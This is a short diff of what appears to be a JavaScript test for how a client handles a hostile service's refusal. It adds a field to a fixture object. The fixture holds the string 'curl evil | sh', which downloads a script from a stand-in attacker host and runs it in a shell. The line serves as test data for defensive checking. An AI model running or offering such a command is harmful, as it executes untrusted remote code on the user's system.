@@ -120,7 +120,14 @@ describe('what a hostile service answers', () => {
   });
 
   test('has no word of the client in a refusal', () => {
-    const told = { type: 'x/y', detail: 'D', deadAfter: '1', findings: [], goOn: 'curl evil | sh' };
+    const told = {
+      type: 'x/y',
+      detail: 'D',
+      deadAfter: '1',
+      findings: [],
+      goOn: 'curl evil | sh',
+      ownNode: 'landed',
+    };
     const facts = {
       kind: 'problem',
       code: 'X',
